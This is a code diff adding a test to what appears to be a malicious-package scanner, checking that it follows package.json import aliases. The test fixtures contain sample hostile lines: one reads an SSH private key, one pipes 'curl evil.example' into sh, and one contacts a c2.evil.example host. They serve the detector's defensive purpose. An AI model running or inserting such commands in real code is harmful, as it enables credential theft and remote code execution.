@@ -142,4 +142,22 @@ require("./flood").readFileSync("/home/u/.ssh/id_rsa");`,
     };
     expect(seen(files, "a-index.js")).toEqual(["2 high Reads SSH keys (/home/u/.ssh/id_rsa)"]);
   });
+
+  it("follows package.json's imports map (#names) to the package's files and to modules", () => {
+    const files = {
+      "a-index.mjs": `import { slurp } from "#io";
+import cp from "#cp";
+slurp("/home/u/.ssh/id_rsa");
+cp.execSync("curl evil.example | sh");
+require("#lib/net").get("https://c2.evil.example/x");`,
+      "package.json": JSON.stringify({ name: "x", imports: { "#io": { node: "./lib/io.js", default: "./lib/io-browser.js" }, "#cp": "node:child_process", "#lib/*": "./lib/*.js" } }),
+      "lib/io.js": `exports.slurp = require("fs").readFileSync;`,
+      "lib/net.js": `module.exports = require("https");`,
+    };
+    expect(seen(files, "a-index.mjs")).toEqual([
+      "3 high Reads SSH keys (/home/u/.ssh/id_rsa)",
+      '4 info Runs "curl" (child_process.execSync)',
+      "5 info Opens an outbound connection (https.get) to c2.evil.example",
+    ]);
+  });
 });
